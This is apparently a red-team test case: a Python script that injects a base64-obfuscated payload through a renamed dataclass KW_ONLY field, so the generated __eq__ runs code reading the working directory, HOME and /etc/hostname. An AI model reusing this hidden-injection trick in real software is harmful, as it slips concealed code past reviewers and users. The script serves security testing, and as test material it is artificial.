# family: red team, round 53a (KW_ONLY pseudo-field keeps its field() as a class attribute; renamed through a local name)
import base64
from dataclasses import KW_ONLY, dataclass, field

CODE = "eSxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk="


@dataclass
class Options:
    size: int = 0
    _: KW_ONLY = field(default=0)


def main():
    spare = Options._

    @dataclass
    class Row:
        y: int = spare

    spare.name = base64.b64decode(CODE).decode()

    @dataclass(init=False, repr=False)
    class Wide(Row):
        pass

    print(Wide() == Wide())


main()
